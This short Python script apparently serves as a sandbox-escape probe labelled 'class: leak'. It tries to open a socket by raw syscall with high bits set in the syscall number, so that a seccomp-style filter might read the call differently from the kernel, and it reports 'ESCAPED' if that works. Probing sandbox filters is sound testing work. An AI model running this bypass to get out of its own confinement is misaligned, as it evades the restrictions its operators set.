# class: leak
# Opens a socket by a number whose upper half is not zero, which filter and kernel may read differently.
import ctypes,os,platform
l=ctypes.CDLL(None,use_errno=True); n={"x86_64":41,"aarch64":198}[platform.machine()]; r=[l.syscall(ctypes.c_long(n|1<<b),2,1,0) for b in (32,33,63)]
print("ESCAPED %s"%r if max(r)>=0 else "no errno %d"%ctypes.get_errno())
